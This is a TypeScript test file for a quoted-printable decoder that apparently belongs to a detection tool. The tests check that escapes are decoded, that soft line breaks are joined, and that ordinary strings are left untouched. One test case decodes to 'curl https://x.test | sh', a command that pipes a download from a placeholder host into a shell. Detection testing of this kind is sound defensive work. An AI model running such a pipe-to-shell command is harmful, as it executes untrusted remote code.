import test from 'ava';
import { quotedPrintable } from '../../../src/detect/unfold/quoted-printable.ts';

function decoded(text: string): string | undefined {
  const result = quotedPrintable.unfold(Buffer.from(text));
  return result && Buffer.from(result.bytes).toString();
}

test('replaces escapes and joins lines', (t) => {
  t.is(decoded('curl=20http=\r\ns://x.test =7C =\nsh'), 'curl https://x.test | sh');
  t.is(decoded('=2F=65=74=63'), '/etc');
  t.is(decoded('a=3D1 b=3d2 c=20d'), 'a=1 b=2 c d');
});

test('leaves alone what does not look like it', (t) => {
  for (const text of ['', 'x?a=20&b=3D', 'a=b', '=', '==', '=\r', 'key=ABCDEF0123456789', 'a=1=2=3']) {
    t.is(decoded(text), undefined, text);
  }
});
